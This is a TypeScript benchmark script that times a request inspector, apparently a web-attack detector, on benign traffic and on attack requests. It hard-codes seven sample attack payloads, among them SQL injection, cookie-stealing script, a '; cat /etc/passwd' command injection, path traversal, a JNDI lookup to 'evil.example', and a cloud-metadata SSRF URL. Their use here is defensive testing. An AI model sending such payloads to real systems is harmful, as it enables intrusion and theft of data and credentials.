/**
 * Micro-benchmark of the inspector alone (no sockets): median, p90 and p99 µs per request for benign GETs, benign
 * bodies (POST/PUT/PATCH) and attack requests, on one core, in CPU time (getrusage, µs resolution). Prints JSON.
 *
 *   node --import tsx bench/inspect.ts [--count 4000]
 *   node --import tsx bench/inspect.ts --gateway [--count 60000]
 *
 * `--gateway` measures instead the two requests of the gateway benchmark (bench/harness.ts: GET with a query,
 * POST with a 330-byte JSON order), as the gateway's inspect stage passes them, with a distinct X-Forwarded-For
 * and API key per request over 20,000 clients: CPU µs per request over 30 batches (median and fastest batch).
 */
import { generateBenignTraffic } from '../scripts/benign-traffic.ts';
import { caseToInput } from '../scripts/corpus-case.ts';
import { detectionConfigSchema } from '../src/detection/config.ts';
import { createInspector, type InspectionInput } from '../src/detection/inspector.ts';

const arg = (name: string, dflt: number): number => {
  const i = process.argv.indexOf(name);
  return i === -1 ? dflt : Number(process.argv[i + 1]);
};
const count = arg('--count', 4000);

const ATTACKS: InspectionInput[] = [
  "1' OR '1'='1' --",
  '<script>alert(document.cookie)</script>',
  '; cat /etc/passwd',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  'http://169.254.169.254/latest/meta-data/',
  '{{7*7}}',
].map((p) => ({
  method: 'GET',
  path: '/api/v1/search',
  rawQuery: `q=${encodeURIComponent(p)}&page=2`,
  headers: {
    host: 'api.example.com',
    'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
    accept: '*/*',
  },
  bodyComplete: true,
}));

type Stats = { median: number; p90: number; p99: number; mean: number };

function stats(times: number[]): Stats {
  const t = [...times].sort((a, b) => a - b);
  const at = (q: number): number => t[Math.min(t.length - 1, Math.floor(q * t.length))]!;
  return { median: at(0.5), p90: at(0.9), p99: at(0.99), mean: Number((t.reduce((a, b) => a + b, 0) / t.length).toFixed(1)) };
}

/** CPU time of one call, in µs (getrusage): the shared benchmark machine is oversubscribed, wall time is not ours. */
function cpuMicros(f: () => void): number {
  const c0 = process.cpuUsage();
  f();
  const c = process.cpuUsage(c0);
  return c.user + c.system;
}

/** A fixed reference workload, so readers can scale the figures to their machine (and see a busy host). */
function calibrationMicros(): number {
  const doc = JSON.stringify({ id: 42, name: "O'Brien", tags: ['a', 'b'], nested: { ok: true } });
  const c0 = process.cpuUsage();
  for (let i = 0; i < 100_000; i++) JSON.parse(doc);
  const c = process.cpuUsage(c0);
  return Number(((c.user + c.system) / 100_000).toFixed(3));
}

async function gatewayWorkload(n: number): Promise<Record<string, { medianMicros: number; minMicros: number }>> {
  const { GET, POST, CLIENTS } = await import('./harness.ts');
  const insp = createInspector(detectionConfigSchema.parse({}));
  const out: Record<string, { medianMicros: number; minMicros: number }> = {};
  for (const w of [GET, POST]) {
    const q = w.path.indexOf('?');
    const body = w.body === undefined ? undefined : Buffer.from(w.body);
    const reqs: InspectionInput[] = Array.from({ length: CLIENTS }, (_, k) => {
      const c = k + 1;
      const headers: Record<string, string> = {
        ...w.headers,
        host: '127.0.0.1:41234',
        connection: 'keep-alive',
        'x-forwarded-for': `10.${(c >> 16) & 255}.${(c >> 8) & 255}.${c & 255}`,
        authorization: `Bearer key-${c.toString(36)}-3f2a9c1e0b7d4e5f`,
        ...(body === undefined ? {} : { 'content-length': String(body.length) }),
      };
      return {
        method: w.method,
        path: q === -1 ? w.path : w.path.slice(0, q),
        rawQuery: q === -1 ? '' : w.path.slice(q + 1),
        headers,
        bodyComplete: true,
        ...(body === undefined ? {} : { body, contentType: headers['content-type'] }),
      };
    });
    let k = 0;
    for (let i = 0; i < 5000; i++) insp.inspect(reqs[k++ % reqs.length]!);
    const per = Math.max(1, Math.floor(n / 30));
    const batches: number[] = [];
    for (let b = 0; b < 30; b++) {
      const us = cpuMicros(() => {
        for (let i = 0; i < per; i++) insp.inspect(reqs[k++ % reqs.length]!);
      });
      batches.push(us / per);
    }
    batches.sort((x, y) => x - y);
    out[w.name] = { medianMicros: Number(batches[15]!.toFixed(2)), minMicros: Number(batches[0]!.toFixed(2)) };
  }
  insp.close();
  return out;
}

if (process.argv.includes('--gateway')) {
  const n = arg('--count', 60_000);
  console.log(JSON.stringify({ node: process.version, unit: 'µs CPU per request', ...(await gatewayWorkload(n)) }, null, 2));
  process.exit(0);
}

const inspector = createInspector(detectionConfigSchema.parse({}));
// Warm-up on other traffic (another seed): JIT and regex compilation, without pre-filling the clean-value cache
// with the requests measured below. Each measured request is seen once, in one pass, as in production.
for (const c of generateBenignTraffic(1000, 99)) inspector.inspect(caseToInput(c));
const cases = generateBenignTraffic(count, 3).map(caseToInput);
const get: number[] = [];
const body: number[] = [];
for (const input of cases) (input.body === undefined ? get : body).push(cpuMicros(() => inspector.inspect(input)));
const attack = Array.from({ length: 210 }, (_, i) => cpuMicros(() => inspector.inspect(ATTACKS[i % ATTACKS.length]!)));
inspector.close();
console.log(
  JSON.stringify(
    {
      node: process.version,
      unit: 'µs CPU per request',
      calibrationJsonParseMicros: calibrationMicros(),
      loadAverage: (await import('node:os')).loadavg()[0],
      requests: { get: get.length, body: body.length, attack: attack.length },
      benignAll: stats([...get, ...body]),
      benignGet: stats(get),
      benignBody: stats(body),
      attack: stats(attack),
    },
    null,
    2,
  ),
);
